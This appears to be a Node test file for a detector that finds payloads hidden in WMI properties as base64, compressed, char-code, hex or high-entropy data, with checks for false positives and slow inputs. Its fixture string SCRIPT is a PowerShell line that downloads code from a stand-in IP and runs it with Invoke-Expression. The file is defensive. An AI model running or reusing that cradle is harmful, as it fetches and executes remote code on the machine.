import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { test } from 'node:test';
import { deflateSync, gzipSync } from 'node:zlib';
import { hiddenData } from './hidden-data.ts';

const SCRIPT =
  '$c = New-Object Net.WebClient; $t = $c.DownloadString("http://203.0.113.7/a"); Invoke-Expression $t\r\n';
const PROSE =
  'The AppRollback shadow context specifies a persistent and non auto-release shadow copy with writers involved. ';

/** Bytes without any order, the same on every machine. */
function noise(length: number): Buffer {
  const blocks = Array.from({ length: Math.ceil(length / 32) }, (_, i) => createHash('sha256').update(`${i}`).digest());
  return Buffer.concat(blocks).subarray(0, length);
}

const program = Buffer.concat([Buffer.from('MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0', 'latin1'), noise(900)]);
const codes = (text: string): number[] => [...Buffer.from(text, 'latin1')];

test('S14 what attackers keep in WMI is told by its form', () => {
  const cases: readonly (readonly [string, string | Uint8Array | readonly (string | number)[], string])[] = [
    ['a program in base64', program.toString('base64'), 'base64 program'],
    ['the same behind words', `powershell -c "${program.toString('base64')}"`, 'base64 program'],
    ['the same in lines of 76', program.toString('base64').replace(/.{76}/g, '$&\r\n'), 'base64 program'],
    ['a packed script in base64', gzipSync(SCRIPT.repeat(9)).toString('base64'), 'base64 gzip'],
    ['a script in base64 of UTF-16', Buffer.from(SCRIPT, 'utf16le').toString('base64'), 'base64 text'],
    ['encrypted text in base64', noise(400).toString('base64'), 'base64 '],
    ['codes with commas', codes(SCRIPT).join(','), 'char-codes text'],
    ['codes with blanks', codes(SCRIPT).join(' '), 'char-codes text'],
    [
      'codes in hex',
      codes(SCRIPT)
        .map((code) => `0x${code.toString(16)}`)
        .join(', '),
      'char-codes text',
    ],
    ['codes of a program', [...program].join(','), 'char-codes program'],
    ['a script of more than 1 KB', SCRIPT.repeat(12), 'long-text '],
    ['hex', program.toString('hex'), 'hex program'],
    [
      'a cipher in printable characters',
      noise(200).reduce((text, byte) => text + String.fromCharCode(33 + (byte % 94)), ''),
      'entropy ',
    ],
    ['bytes packed into characters', noise(400).toString('utf16le'), 'binary '],
    ['a list of bytes', new Uint8Array(program), 'bytes program'],
    ['a packed list of bytes', new Uint8Array(deflateSync(noise(300))), 'bytes zlib'],
    ['a script as bytes', new Uint8Array(Buffer.from(SCRIPT)), 'bytes text'],
    ['a long list of bytes', new Uint8Array(noise(1025)), 'bytes '],
    ['a list of codes', codes(SCRIPT), 'char-codes text'],
    ['a list of codes as texts', codes(SCRIPT).map(String), 'char-codes text'],
    ['base64 in pieces', program.toString('base64').match(/.{1,40}/g) ?? [], 'base64 program'],
  ];
  for (const [what, value, told] of cases) {
    const found = hiddenData(value);
    assert.equal(found === undefined ? 'nothing' : `${found.reason} ${found.kind ?? ''}`, told, what);
  }
});

test('S14 what properties really hold is nothing hidden', () => {
  const cases: readonly (readonly [string, string | Uint8Array | readonly (string | number)[]])[] = [
    ['prose of 1,024 characters', PROSE.repeat(10).slice(0, 1024)],
    [
      'prose of another script',
      '注册表提供程序允许管理应用程序检索和修改系统注册表中的数据并接收更改发生时的通知'.repeat(20),
    ],
    [
      'a security descriptor in words',
      'O:BAG:BAD:(A;;0x1;;;BA)(A;;0x1;;;NS)(A;;0x1;;;LS)(A;;0x1;;;S-1-5-32-568)'.repeat(4),
    ],
    ['an assembly', 'Microsoft.AppV.AppVClientWmi, Version=10.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35'],
    ['a path', 'C:\\Windows\\System32\\drivers\\en-US\\processr.sys.mui[PROCESSORWMI]'],
    [
      'a link',
      'https://example.org/path/of/a/page/that/is/rather/long/and/has/words/Only/With/Some/Capitals/In/Between1',
    ],
    ['a name without blanks', 'MicrosoftWindowsServicingManagementProviderForRemoteInstallationAndRollback'.repeat(2)],
    ['digests', `${createHash('sha512').update('a').digest('hex')}`],
    ['a thumb print list', ['A', 'B', 'C'].map((text) => createHash('sha1').update(text).digest('hex'))],
    [
      'SIDs',
      Array.from({ length: 33 }, (_, i) => `S-1-5-80-864916184-135290571-3087830041-1716922880-${4237303741 + i}`),
    ],
    ['a version', '10.0.20348.1906,10.0.20348.1,6.3.9600.0'],
    ['31 codes', codes(SCRIPT).slice(0, 31)],
    ['counts', Array.from({ length: 60 }, (_, i) => 1000 * i)],
    ['a query', "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_LocalTime'"],
    ['a small list of bytes', new Uint8Array(noise(200))],
    ['names', Array.from({ length: 400 }, (_, i) => `Win32_Class${i}`)],
    ['nothing', ''],
    ['no items', []],
  ];
  for (const [what, value] of cases) assert.deepEqual(hiddenData(value), undefined, what);
});

test('S14 each bound has two sides', () => {
  const reason = (value: Parameters<typeof hiddenData>[0]): string | undefined => hiddenData(value)?.reason;
  assert.deepEqual(
    [reason(PROSE.repeat(10).slice(0, 1024)), reason(PROSE.repeat(10).slice(0, 1025))],
    [undefined, 'long-text'],
  );
  assert.deepEqual([reason(codes(SCRIPT).slice(0, 31)), reason(codes(SCRIPT).slice(0, 32))], [undefined, 'char-codes']);
  const hex = noise(90).toString('hex');
  assert.deepEqual([reason(hex.slice(0, 158)), reason(hex.slice(0, 160))], [undefined, 'hex']);
  const base64 = noise(300)
    .toString('base64')
    .replaceAll(/[^A-Za-z0-9]/g, 'x');
  assert.deepEqual([reason(base64.slice(0, 127)), reason(base64.slice(0, 128))], [undefined, 'base64']);
  assert.deepEqual([reason(new Uint8Array(noise(1024))), reason(new Uint8Array(noise(1025)))], [undefined, 'bytes']);
});

test('a finding tells length, entropy and the beginning', () => {
  const found = hiddenData(program.toString('base64'));
  assert.ok(found !== undefined);
  const { entropy, ...rest } = found;
  assert.deepEqual(rest, {
    reason: 'base64',
    kind: 'program',
    length: 1224,
    head: `${program.toString('base64').slice(0, 79)}…`,
  });
  assert.ok(entropy > 5.8 && entropy < 6.1, `${entropy}`);
  assert.equal(hiddenData(new Uint8Array(program))?.head, program.subarray(0, 40).toString('hex'));
});

test('hostile values end soon', () => {
  const start = process.cpuUsage().user;
  for (const text of ['A', 'Aa1', '1,', '4142', 'a\n', `${'A'.repeat(63)} `, '\ud800', 'a\r\n        ', ',']) {
    hiddenData(text.repeat(Math.ceil(4_000_000 / text.length)));
  }
  hiddenData(Array.from({ length: 300_000 }, () => 'QUJD'));
  hiddenData(Array.from({ length: 1_000_000 }, (_, i) => i & 0xff));
  hiddenData(new Uint8Array(8_000_000));
  assert.ok(process.cpuUsage().user - start < 4_000_000, 'user CPU under 4 s');
});
